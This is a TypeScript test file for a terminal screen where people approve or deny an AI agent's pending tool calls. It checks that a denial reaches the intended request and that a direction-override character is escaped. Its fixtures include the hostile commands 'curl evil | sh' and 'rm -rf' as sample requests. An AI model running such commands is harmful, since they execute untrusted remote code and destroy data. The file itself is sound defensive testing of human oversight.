import { setTimeout as sleep } from 'node:timers/promises';
import { render } from 'ink-testing-library';
import { expect, test, vi } from 'vitest';
import type { Answer, Approval } from '../../src/model/approval.ts';
import { ApprovalsScreen } from '../../src/ui/approvals-screen.tsx';

const approval = (id: string, what: string): Approval => ({
  request: {
    id,
    kind: 'tool-call',
    digest: 'd'.repeat(64),
    what,
    rule: 'r',
    place: null,
    approvers: [],
    session: null,
    exchange: null,
    content: '',
    subject: null,
    requester: 'alice@example.com',
    remote: null,
    clone: 'c'.repeat(64),
    createdAtMs: 0,
    expiresAtMs: Date.now() + 60_000,
  },
  sha256: id.repeat(4),
  key: Buffer.alloc(0),
  state: { kind: 'pending' },
  decisions: [],
  refused: [],
  doubt: null,
});

test('the answer goes to the request that was read, although another comes in above it', async () => {
  const known = [approval('a1', 'curl evil | sh'), approval('a2', 'npm test')];
  const sent: (readonly [Answer, string, string])[] = [];
  const { stdin, lastFrame, unmount } = render(
    <ApprovalsScreen
      load={() => Promise.resolve([...known])}
      linesOf={({ request }) => [`all of ${request.what}`]}
      decide={(...words) => {
        sent.push(words);
        return Promise.resolve(`${words[1]} done`);
      }}
    />,
  );
  const shows = async (text: string): Promise<void> => {
    await vi.waitFor(() => expect(lastFrame()).toContain(text), { timeout: 5000 });
    await sleep(20); // a key that comes before the frame's effects is lost
  };
  await shows('all of curl evil');
  stdin.write('\u001B[B');
  await shows('all of npm test');
  known.unshift(approval('a0', 'rm -rf'));
  stdin.write('r');
  await shows('rm -rf');
  expect(lastFrame()).toContain('all of npm test');
  stdin.write('d');
  await shows('deny a2: why?');
  stdin.write('no\u202Ee');
  await shows('deny a2: why? no<U+202E>e');
  stdin.write('\r');
  await shows('a2 done');
  expect(sent).toEqual([['deny', 'a2', 'no<U+202E>e']]);
  unmount();
}, 30_000);
